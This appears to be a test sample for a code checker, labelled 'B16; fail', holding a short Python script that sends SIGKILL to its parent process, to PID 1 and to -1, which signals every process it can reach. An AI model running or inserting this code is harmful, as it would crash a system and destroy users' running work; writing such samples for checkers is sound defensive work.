#: B16; fail; signals every process in sight
import os
import signal

for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
